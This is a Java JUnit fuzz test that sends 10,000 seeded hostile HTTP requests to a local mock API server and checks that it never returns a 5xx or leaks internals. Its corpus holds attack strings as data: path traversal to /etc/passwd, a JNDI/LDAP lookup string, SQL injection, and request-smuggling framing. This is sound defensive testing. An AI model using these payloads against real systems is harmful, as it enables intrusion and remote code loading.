package com.iduscore.mock.server;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;
import com.iduscore.mock.http.Fixtures;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.LongAdder;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * A generated corpus of hostile requests, sent over real sockets to a running mock: mutated fixture bodies, hostile
 * headers (oversized, control characters, duplicates, odd encodings), paths ({@code %00}, {@code %2e%2e}, raw
 * {@code ../}, overlong, unicode), query encodings, unknown and lower-case verbs, HTTP versions and broken framing.
 * Every response must keep {@link EdgeContract}: never a 5xx (a 505 only for a version other than 1.0/1.1), always
 * {@code x-request-id}, always the envelope for a 4xx, never a class name, stack trace or HTML.
 *
 * <p>Deterministic: case {@code i} is built from {@code new Random(seed * 1_000_003 + i)} alone, so a failure is
 * replayed with {@code -Dfuzz.seed=<seed>} (printed with every failure); the default seed is fixed. Four keep-alive
 * connections work through the cases in parallel; hostile framing gets a connection of its own.
 */
class TenThousandHostileRequestsTest {
    private static final int CASES = Integer.getInteger("fuzz.cases", 10_000);
    private static final long SEED = Long.getLong("fuzz.seed", 20261204L);
    private static final int CONNECTIONS = 4;
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String PLACEHOLDER = "__fuzz__";

    private static IduScoreMockServer mock;
    private static List<byte[]> fixtures;

    @BeforeAll
    static void start() {
        mock = IduScoreMockServer.start(MockServerConfig.defaults().withPort(0).withClock(ClockMode.MANUAL));
        List<byte[]> bodies = new ArrayList<>();
        bodies.add(Fixtures.bytes("fixtures/submissions/valid/complete.json"));
        bodies.add(Fixtures.bytes("fixtures/submissions/valid/minimal.json"));
        Fixtures.invalidVariants().forEach(variant -> bodies.add(variant.body()));
        fixtures = List.copyOf(bodies);
    }

    @AfterAll
    static void stop() {
        mock.stop();
    }

    @Test
    void never_get_a_5xx_and_always_get_the_envelope_with_x_request_id_and_no_internals() throws Exception {
        List<String> failures = Collections.synchronizedList(new ArrayList<>());
        Map<Integer, LongAdder> statuses = new ConcurrentHashMap<>();
        Map<String, LongAdder> kinds = new ConcurrentHashMap<>();
        AtomicInteger sent = new AtomicInteger();
        long started = System.nanoTime();

        ExecutorService workers = Executors.newFixedThreadPool(CONNECTIONS);
        List<Future<?>> done = new ArrayList<>();
        for (int worker = 0; worker < CONNECTIONS; worker++) {
            int first = worker;
            done.add(workers.submit(() -> {
                try (RawHttp http = new RawHttp(mock.port())) {
                    for (int i = first; i < CASES; i += CONNECTIONS) {
                        Case hostile = generate(i);
                        kinds.computeIfAbsent(hostile.kind(), k -> new LongAdder()).increment();
                        try {
                            RawHttp.Response response = http.send(hostile.bytes(), hostile.head(), hostile.fresh());
                            sent.incrementAndGet();
                            statuses.computeIfAbsent(response.status(), s -> new LongAdder()).increment();
                            List<String> problems = EdgeContract.problems(response, hostile.head(), hostile.oddVersion());
                            if (!problems.isEmpty()) {
                                failures.add(describe(i, hostile, problems + " status " + response.status()
                                        + " body " + EdgeContract.excerpt(response.text())));
                            }
                        } catch (IOException | RuntimeException e) {
                            http.close();
                            failures.add(describe(i, hostile, "no response: " + e));
                        }
                    }
                }
            }));
        }
        for (Future<?> future : done) {
            future.get();
        }
        workers.shutdown();
        long millis = (System.nanoTime() - started) / 1_000_000;
        System.out.printf("hostile requests: %d sent in %d ms (seed %d); by kind %s; by status %s%n",
                sent.get(), millis, SEED, kinds, statuses);

        assertThat(failures).as("failures of seed %d (replay with -Dfuzz.seed=%d), first 20 shown", SEED, SEED)
                .satisfies(list -> assertThat(list.subList(0, Math.min(20, list.size()))).isEmpty());
        assertThat(sent.get()).as("requests answered").isEqualTo(CASES);
        // the corpus reached every layer: parser refusals, route refusals, and acceptances
        assertThat(statuses.keySet()).as("statuses seen").contains(200, 400, 401, 404, 405, 414, 431, 505);
    }

    private static String describe(int index, Case hostile, String problem) {
        String request = new String(hostile.bytes(), StandardCharsets.ISO_8859_1);
        return "seed " + SEED + " case " + index + " (" + hostile.kind() + "): " + problem
                + "\n    request: " + EdgeContract.excerpt(request);
    }

    /** One hostile request: its bytes, and how to read the answer. */
    record Case(String kind, byte[] bytes, boolean head, boolean fresh, boolean oddVersion) {
    }

    // ---- the corpus ---------------------------------------------------------------------------------------------

    private static final String[] ROUTES = {"/v1/submissions/00000000-0000-4000-8000-000000000000",
            "/v1/jobs/00000000-0000-4000-8000-000000000001", "/v1/results/00000000-0000-4000-8000-000000000002",
            "/health", "/v1/submissions", "/_mock/artifacts/00000000-0000-4000-8000-000000000003?expires=1&signature=x"};
    private static final String[] KEYS = {"idu_demo_a1", "idu_demo_b1", "idu_demo_inactive", "nope"};
    private static final String[] NUMBERS = {"1e400", "-1e400", "1e-400", "-1e-400", "1234567890123456789012345678901234567890",
            "-0", "0.000000000000000000000000000001", "9007199254740993", "1E+2", "NaN", "Infinity", "01", "1.", ".5", "+1"};
    private static final String[] STRINGS = {"", " ", "\\u0000", "\\ud800", "caf\u00e9 \u4e2d \ud83d\ude00", "\\\"", "%00",
            "../../etc/passwd", "${jndi:ldap://x.test/a}", "' OR 1=1 --", "\\n\\r\\t", "a".repeat(10_000),
            "2026-02-30T25:61:00Z", "00000000-0000-0000-0000-000000000000"};
    private static final String[] CONTENT_TYPES = {"application/json", "application/json", "application/json",
            "application/json; charset=utf-8", "APPLICATION/JSON", "application/json; charset=utf-16",
            "text/plain", "", "application/x-www-form-urlencoded", "multipart/form-data; boundary=xyz",
            "application/json;;;", "application/*", "application/merge-patch+json"};
    private static final String[] PATH_PIECES = {"%00", "%2e%2e", "%2E%2e/", "..", "../", "./", "//", "%2f", "%5c", "\\",
            ";a=b", "%", "%z", "%zz", "%e9", "%c3%a9", "%ff%fe", "\u00e9", "\u4e2d", "~", "*", "%23", "%3f", "%20",
            "%252e%252e", "%u002e", "\u0000", "\t", "%0d%0a", "?", "#frag"};
    private static final String[] QUERIES = {"%zz", "%", "a=%", "a=%E0%A4", "a=%00", "&&&", "=", "a=b=c", "a[]=1",
            "%u0041", "+", "a=%2", "a=\u00e9", "a=%c3%28", "x=" + "y".repeat(20_000), "%%%", "a=1&a=2&a=3",
            "expires=-1&signature=%zz", "expires=99999999999999999999&signature="};
    private static final String[] METHODS = {"FOO", "BREW", "PROPFIND", "get", "post", "Get", "TRACE", "CONNECT", "PATCH",
            "DELETE", "PUT", "OPTIONS", "HEAD", "head", "G@T", "M-SEARCH", "PRI", "GET\u0000", "X".repeat(1000), ""};
    private static final String[] VERSIONS = {"HTTP/1.0", "HTTP/1.1", "HTTP/2.0", "HTTP/2", "HTTP/0.9", "", "HTTP/1.2",
            "HTTP/9.9", "http/1.1", "HTTP/1.1 extra", "HTTP/11", "HTTP/1.10", "HTTP/-1.1", "HTTPS/1.1", "HTTP/1.1\u0000"};

    static Case generate(int index) {
        Random random = new Random(SEED * 1_000_003L + index);
        int roll = random.nextInt(100);
        if (roll < 35) {
            return body(random);
        } else if (roll < 55) {
            return headers(random);
        } else if (roll < 70) {
            return path(random);
        } else if (roll < 80) {
            return query(random);
        } else if (roll < 90) {
            return method(random);
        } else if (roll < 95) {
            return version(random);
        }
        return framing(random);
    }

    /** A POST of a fixture mutated as JSON (a hostile value at a random node) or as bytes. */
    private static Case body(Random random) {
        byte[] body = random.nextInt(3) < 2 ? jsonMutation(random) : byteMutation(random);
        String contentType = pick(random, CONTENT_TYPES);
        StringBuilder head = new StringBuilder("POST /v1/submissions HTTP/1.1\r\nHost: 127.0.0.1\r\n")
                .append("X-Api-Key: ").append(pick(random, KEYS)).append("\r\n")
                .append("Idempotency-Key: fuzz-").append(random.nextInt(50)).append("\r\n")
                .append("x-correlation-id: corr-fuzz\r\n");
        if (!contentType.isEmpty()) {
            head.append("Content-Type: ").append(contentType).append("\r\n");
        }
        if (random.nextInt(10) == 0) {
            head.append("Accept-Encoding: gzip\r\n");
        }
        head.append("Content-Length: ").append(body.length).append("\r\n\r\n");
        return new Case("body", concat(latin1(head.toString()), body), false, false, false);
    }

    private static byte[] jsonMutation(Random random) {
        try {
            JsonNode root = JSON.readTree(pick(random, fixtures));
            List<JsonNode> containers = new ArrayList<>();
            collect(root, containers);
            JsonNode target = containers.get(random.nextInt(containers.size()));
            String raw = hostileValue(random);
            if (target instanceof ObjectNode object && object.size() > 0) {
                List<String> names = new ArrayList<>();
                object.fieldNames().forEachRemaining(names::add);
                String name = random.nextInt(8) == 0 ? "extra\u00e9" : names.get(random.nextInt(names.size()));
                object.set(name, TextNode.valueOf(PLACEHOLDER));
            } else if (target instanceof ArrayNode array && !array.isEmpty()) {
                array.set(random.nextInt(array.size()), TextNode.valueOf(PLACEHOLDER));
            } else {
                ((ObjectNode) root).set("extra", TextNode.valueOf(PLACEHOLDER));
            }
            return JSON.writeValueAsString(root).replace("\"" + PLACEHOLDER + "\"", raw).getBytes(StandardCharsets.UTF_8);
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private static void collect(JsonNode node, List<JsonNode> containers) {
        if (node.isContainerNode()) {
            containers.add(node);
            node.forEach(child -> collect(child, containers));
        }
    }

    /** A raw JSON value: a number no double holds, an odd string, an odd structure, or deep nesting. */
    private static String hostileValue(Random random) {
        return switch (random.nextInt(5)) {
            case 0, 1 -> pick(random, NUMBERS);
            case 2 -> "\"" + pick(random, STRINGS) + "\"";
            case 3 -> pick(random, new String[]{"{}", "[]", "null", "true", "[[[]]]", "{\"\":{}}", "[1,\"a\",null]"});
            default -> {
                int depth = random.nextBoolean() ? 50 : 2_000;
                yield "[".repeat(depth) + "]".repeat(depth);
            }
        };
    }

    private static byte[] byteMutation(Random random) {
        byte[] body = pick(random, fixtures).clone();
        return switch (random.nextInt(7)) {
            case 0 -> java.util.Arrays.copyOf(body, random.nextInt(body.length));
            case 1 -> {
                for (int flips = 1 + random.nextInt(4); flips > 0; flips--) {
                    body[random.nextInt(body.length)] = (byte) random.nextInt(256);
                }
                yield body;
            }
            case 2 -> concat(new byte[]{(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, body);
            case 3 -> concat(body, latin1(" trailing"));
            case 4 -> {
                int at = random.nextInt(body.length);
                yield concat(concat(java.util.Arrays.copyOf(body, at), new byte[]{(byte) 0xC3, (byte) 0xFF, 0x00}),
                        java.util.Arrays.copyOfRange(body, at, body.length));
            }
            case 5 -> latin1(new String(body, StandardCharsets.UTF_8).replaceFirst("\\{", "{\"partnerId\":\"dup\","));
            default -> new byte[0];
        };
    }

    /** A GET or POST with one hostile header change; bytes beyond ASCII go as they are. */
    private static Case headers(Random random) {
        String route = pick(random, ROUTES);
        List<String> lines = new ArrayList<>(List.of("Host: 127.0.0.1", "X-Api-Key: " + pick(random, KEYS)));
        boolean fresh = false;
        switch (random.nextInt(16)) {
            case 0 -> lines.set(1, "X-Api-Key: idu" + (char) (1 + random.nextInt(31)) + "demo");
            case 1 -> lines.set(1, "X-Api-Key: idu\u007f");
            case 2 -> lines.add("X-Big: " + "a".repeat(random.nextBoolean() ? 33 * 1024 : 9 * 1024));
            case 3 -> {
                for (int i = 0; i < 1 + random.nextInt(1500); i++) {
                    lines.add("X-Many-" + i + ": " + "v".repeat(random.nextInt(40)));
                }
            }
            case 4 -> lines.add("X-Api-Key: idu_demo_b1");
            case 5 -> {
                lines.add("x-request-id: fuzz-a");
                lines.add("x-request-id: fuzz-b");
            }
            case 6 -> lines.add("x-request-id: " + pick(random, new String[]{"r".repeat(300), "caf\u00e9", "a b", "\t",
                    "%00", "\"quoted\"", "\u00ff\u00fe"}));
            case 7 -> lines.add("Authorization: " + pick(random, new String[]{"Bearer ", "Bearer", "Basic Zm9vOmJhcg==",
                    "Bearer idu_demo_a1 extra", "bearer idu_demo_a1", "Bearer \u00e9"}));
            case 8 -> lines.add(pick(random, new String[]{"X Api Key: v", "X-Api-Key : v", ": v", "X-A", "X-A:\u00ff"}));
            case 9 -> lines.add("X-Folded: a\r\n b");
            case 10 -> lines.add("Host: other.test");
            case 11 -> lines.remove(0);
            case 12 -> lines.add("x-correlation-id: " + pick(random, new String[]{"", "c".repeat(5000), "\u00e9\u00e9", "%zz"}));
            case 13 -> lines.add("Accept: " + pick(random, new String[]{"text/html", "*/*;q=x", "application/xml", ""}));
            case 14 -> lines.add("Accept-Encoding: " + pick(random, new String[]{"gzip", "br", "deflate, gzip;q=0", "\u00e9"}));
            default -> {
                lines.set(1, "X-Api-Key: idu_demo_a1");
                lines.add("Cookie: " + "k=v; ".repeat(random.nextInt(2000)));
            }
        }
        String head = "GET " + route + " HTTP/1.1\r\n" + String.join("\r\n", lines) + "\r\n";
        if (random.nextInt(4) == 0) {
            head += "Connection: close\r\n";
            fresh = true;
        }
        return new Case("headers", latin1(head + "\r\n"), false, fresh, false);
    }

    /** A route with a hostile piece spliced in, or an overlong or odd target. */
    private static Case path(Random random) {
        String route = pick(random, ROUTES);
        String target = switch (random.nextInt(6)) {
            case 0 -> "/" + "a/".repeat(random.nextBoolean() ? 4_000 : 40_000);
            case 1 -> pick(random, new String[]{"*", "", "http://127.0.0.1/health", "//evil.test/health", "health",
                    "/%2e%2e/%2e%2e/etc/passwd", "/../../health", "/v1/../../health"});
            default -> {
                int at = 1 + random.nextInt(route.indexOf('?') > 0 ? route.indexOf('?') - 1 : route.length() - 1);
                yield route.substring(0, at) + pick(random, PATH_PIECES) + route.substring(at);
            }
        };
        String request = "GET " + target + " HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Api-Key: idu_demo_a1\r\n\r\n";
        // an empty target or one with white space moves "HTTP/1.1" out of the version's place: Jetty then sees 0.9
        boolean versionDisplaced = target.isEmpty() || target.chars().anyMatch(c -> c == ' ' || c == '\t');
        return new Case("path", utf8(request), false, versionDisplaced, versionDisplaced);
    }

    private static Case query(Random random) {
        String route = pick(random, new String[]{"/health", "/v1/submissions/00000000-0000-4000-8000-000000000000",
                "/_mock/artifacts/00000000-0000-4000-8000-000000000003", "/v1/results/00000000-0000-4000-8000-000000000002"});
        String request = "GET " + route + "?" + pick(random, QUERIES) + " HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                + "X-Api-Key: idu_demo_a1\r\n\r\n";
        return new Case("query", utf8(request), false, false, false);
    }

    private static Case method(Random random) {
        String method = pick(random, METHODS);
        boolean head = method.equalsIgnoreCase("HEAD");
        String body = random.nextBoolean() ? "{}" : "";
        String request = method + " " + pick(random, ROUTES) + " HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Api-Key: idu_demo_a1\r\n"
                + "Content-Type: application/json\r\nContent-Length: " + body.length() + "\r\nConnection: close\r\n\r\n" + body;
        return new Case("method", latin1(request), head, true, false);
    }

    private static Case version(Random random) {
        String version = pick(random, VERSIONS);
        String request = "GET " + pick(random, ROUTES) + (version.isEmpty() ? "" : " " + version) + "\r\n"
                + "Host: 127.0.0.1\r\nX-Api-Key: idu_demo_a1\r\nConnection: close\r\n\r\n";
        boolean odd = !version.equals("HTTP/1.0") && !version.equals("HTTP/1.1");
        return new Case("version", latin1(request), false, true, odd);
    }

    /** Framing a server must refuse without waiting: nothing here leaves it expecting more bytes. */
    private static Case framing(Random random) {
        String head = "POST /v1/submissions HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Api-Key: idu_demo_a1\r\n"
                + "Idempotency-Key: fuzz-framing\r\nx-correlation-id: c\r\nContent-Type: application/json\r\n"
                + "Connection: close\r\n";
        String rest = switch (random.nextInt(10)) {
            case 0 -> "Content-Length: abc\r\n\r\n{}";
            case 1 -> "Content-Length: -1\r\n\r\n{}";
            case 2 -> "Content-Length: 2\r\nContent-Length: 3\r\n\r\n{}";
            case 3 -> "Content-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n";
            case 4 -> "Transfer-Encoding: chunked\r\n\r\nzz\r\n";
            case 5 -> "Transfer-Encoding: chunked\r\n\r\n2;ext=1\r\n{}\r\n0\r\n\r\n";
            case 6 -> "Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n";
            case 7 -> "Transfer-Encoding: foo\r\n\r\n";
            case 8 -> "Content-Encoding: gzip\r\nContent-Length: 5\r\n\r\nhello";
            default -> "Content-Length: 2\r\n\r\n{}GARBAGE / HTTP/1.1\r\n\r\n";
        };
        return new Case("framing", latin1(head + rest), false, true, false);
    }

    private static <T> T pick(Random random, T[] options) {
        return options[random.nextInt(options.length)];
    }

    private static <T> T pick(Random random, List<T> options) {
        return options.get(random.nextInt(options.size()));
    }

    private static byte[] latin1(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }

    /** Characters beyond Latin-1 (unicode in paths) go as UTF-8, as a browser would send them unescaped. */
    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] concat(byte[] first, byte[] second) {
        ByteArrayOutputStream joined = new ByteArrayOutputStream(first.length + second.length);
        joined.writeBytes(first);
        joined.writeBytes(second);
        return joined.toByteArray();
    }
}
